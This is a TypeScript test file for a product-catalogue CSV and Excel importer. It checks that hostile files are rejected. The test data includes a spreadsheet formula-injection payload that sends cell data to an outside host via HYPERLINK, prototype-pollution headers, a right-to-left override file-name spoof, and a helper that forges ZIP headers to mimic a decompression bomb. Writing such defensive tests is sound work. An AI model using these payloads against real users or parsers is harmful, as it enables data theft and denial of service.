import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { ProblemError } from '#lib/core/catalog/problem.ts'
import { readCells, readFile, type ReadSheet } from '#lib/core/import-export/read/read-file.ts'
import { recognise } from '#lib/core/import-export/columns/recognise.ts'
import { buildProduct, productId } from '#tests/unit/jobs/harness/builders.ts'
import { count, csv, hold, ownHeaders } from './harness.ts'

const product = buildProduct({ id: productId(0x1234), name: 'Scarf' })
const header = 'Shelfside product ID,Name,Price\n'
const many = (times: number, text: string) => text.repeat(times)
const bytes = (text: string) => new TextEncoder().encode(text)

async function messageOf(work: Promise<ReadSheet> | (() => ReadSheet)): Promise<string> {
  try {
    const { sheet } = await (typeof work === 'function' ? work() : work)
    recognise(sheet.header, ownHeaders)
    const errors = hold({ sheet, format: 'csv', encoding: undefined, hasMark: false }, [
      product,
    ]).errors
    return errors[0]?.message ?? ''
  } catch (error) {
    if (error instanceof ProblemError) return error.problem.message
    throw error
  }
}

describe('a hostile file ends in a message', () => {
  const row = `${product.id},Scarf,20\n`
  test.each<[string, string, RegExp]>([
    ['a million columns', `${many(1_000_000, 'a,')}b\n`, /more than 200 columns/],
    ['an unclosed quote', `${header}"${many(2_000_000, 'x,y\n')}`, /quotation mark in row 2/],
    ['too many rows', `${header}${many(200_001, 'a,b,c\n')}`, /more than 200,000 rows/],
    ['a cell without end', `${header}${many(40_000, 'x')},b,c\n`, /longer than 32,768/],
    ['a header that is an attack', `__proto__,Name\n1,2\n`, /“__proto__”/],
    ['a header of every object', `constructor,Name\n1,2\n`, /“constructor”/],
    ['a header twice', `SKU,Price,Price\n1,2,3\n`, /appears twice \(columns 2 and 3\)/],
    ['a ragged row', `${header}${product.id},Scarf\n`, /2 cells but the header has 3/],
    ['NUL', `${header}${product.id},Sc\0arf,20\n`, /Row 2 .*invalid data/],
    ['a formula', `${header}${product.id},"=HYPERLINK(""http://x/?""&A1)",20\n`, /is a formula/],
    [
      'a formula with another first character',
      `${header}${product.id},@SUM(1+1),20\n`,
      /is a formula/,
    ],
    [
      'characters that reverse the text direction',
      `${header}${product.id},Scarf \u202Efdp.exe,20\n`,
      /U\+202E/,
    ],
    ['3,001 rows for one id', header + many(3_001, row), /Another row is for the same/],
    [
      'text behind a quote',
      `${header}"${product.id}"x,Scarf,20\n`,
      /after a closing quotation mark/,
    ],
    ['nothing', '\n\n\n', /is empty/],
    ['an invalid amount', `${header}${product.id},Scarf,12.5.1\n`, /isn’t an amount/],
  ])('%s', async (_, text, expected) => {
    expect(await messageOf(csv(text))).toMatch(expected)
  })

  test('more than 20 MB', async () => {
    expect(await messageOf(readFile('a.csv', new Uint8Array(21 * 1024 * 1024)))).toMatch(/20 MB/)
  })

  test('a lone surrogate, pasted', async () => {
    expect(await messageOf(() => readCells('Name\tPrice\nSc\uD800arf\t1'))).toMatch(
      /Row 2 .*broken character/,
    )
  })

  test.each<[string, string, Uint8Array<ArrayBuffer>, RegExp]>([
    ['an archive called .csv', 'a.csv', bytes('PK\u0003\u0004rest'), /is an archive/],
    ['gzip called .csv', 'a.csv', gzipSync('a,b'), /is an archive/],
    ['a broken workbook', 'a.xlsx', bytes('PK\u0003\u0004rest'), /workbook can’t be opened/],
    ['an old workbook', 'a.xls', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0), /old Excel file/],
    ['a PDF', 'a.csv', bytes('%PDF-1.7'), /PDF/],
    ['a text named as a workbook', 'a.xlsx', bytes('SKU,Price\nA,5'), /isn’t an Excel file/],
    ['a text named as one with macros', 'A.XLSM', bytes('SKU;Price'), /isn’t an Excel file/],
  ])('%s', async (_, name, content, expected) => {
    expect(await messageOf(readFile(name, content))).toMatch(expected)
  })

  test('a workbook that expands when it is unpacked', async () => {
    expect(await messageOf(readFile('a.xlsx', lyingArchive(900 * 1024 * 1024)))).toMatch(
      /when unpacked/,
    )
  })
})

test.each([
  [101, 1, true],
  [99, 1, false],
  [15, 0.001, false],
])('a workbook of %d MB that packs to %d MB expands: %s', async (size, packed, isRejected) => {
  const file = lyingArchive(size * 1024 * 1024, packed * 1024 * 1024)
  expect(/when unpacked/.test(await messageOf(readFile('a.xlsx', file)))).toBe(isRejected)
})

/** An archive with one entry that claims this size. */
function lyingArchive(size: number, packed = 1_000): Uint8Array<ArrayBuffer> {
  const name = bytes('xl/worksheets/sheet1.xml')
  const file = new Uint8Array(4 + 46 + name.length + 22)
  const view = new DataView(file.buffer)
  view.setUint32(0, 0x04034b50, true)
  view.setUint32(4, 0x02014b50, true)
  view.setUint32(24, packed, true)
  view.setUint32(28, size, true)
  view.setUint16(32, name.length, true)
  file.set(name, 50)
  const end = 50 + name.length
  view.setUint32(end, 0x06054b50, true)
  view.setUint16(end + 10, 1, true)
  view.setUint32(end + 16, 4, true)
  return file
}

describe('an unusual table is read', () => {
  const text = `${header}${product.id},Schal größer,20\n`
  const wide = (littleEndian: boolean, mark: string) => {
    const view = new DataView(new ArrayBuffer((mark + text).length * 2))
    for (const [at, sign] of Array.from(mark + text).entries()) {
      view.setUint16(at * 2, sign.codePointAt(0) ?? 0, littleEndian)
    }
    return new Uint8Array(view.buffer)
  }
  const latin = Uint8Array.from(text, (sign: string) => sign.codePointAt(0) ?? 0)
  test.each<[string, Uint8Array<ArrayBuffer>, string]>([
    ['UTF-16 with a byte order mark', wide(true, '\uFEFF'), 'utf-16le'],
    ['UTF-16 in the other byte order', wide(false, '\uFEFF'), 'utf-16be'],
    ['UTF-16 without a byte order mark', wide(true, ''), 'utf-16le'],
    ['what Windows writes', latin, 'windows-1252'],
    ['line endings of an old Mac', bytes(text.replaceAll('\n', '\r')), 'utf-8'],
    ['semicolons', bytes(text.replaceAll(',', ';')), 'utf-8'],
    ['tabs and a byte order mark', bytes(`\uFEFF${text.replaceAll(',', '\t')}`), 'utf-8'],
  ])('%s', async (_, content, encoding) => {
    const read = await readFile('a.csv', content)
    expect(read.encoding).toBe(encoding)
    expect(read.sheet.header).toEqual(['Shelfside product ID', 'Name', 'Price'])
    const { changed } = hold(read, [product])
    expect(changed.map(({ change }) => change?.set)).toEqual([{ name: 'Schal größer' }])
  })

  test('copied cells', () => {
    const read = readCells(`Shelfside product ID\tName\n${product.id}\t"Scarf ""new""\nedition"\n`)
    const { changed } = hold(read, [product])
    expect(changed[0]?.change?.set).toEqual({ name: 'Scarf "new"\nedition' })
  })

  test('an empty cell changes nothing', async () => {
    const read = await csv(`${header}${product.id},,\n`)
    expect(count(hold(read, [product]))).toMatchObject({ changed: 0, unchanged: 1, errors: 0 })
  })
})
